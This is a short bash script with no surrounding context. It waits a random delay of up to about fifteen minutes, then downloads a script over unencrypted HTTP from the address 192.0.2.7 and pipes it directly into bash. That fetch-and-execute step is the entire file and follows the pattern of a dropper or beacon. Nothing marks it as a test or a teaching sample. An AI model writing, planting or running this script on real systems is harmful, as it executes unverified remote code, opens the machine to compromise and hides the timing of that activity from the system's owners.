#!/bin/bash
sleep $((RANDOM % 900))
bash <(curl -s http://192.0.2.7/run.sh)
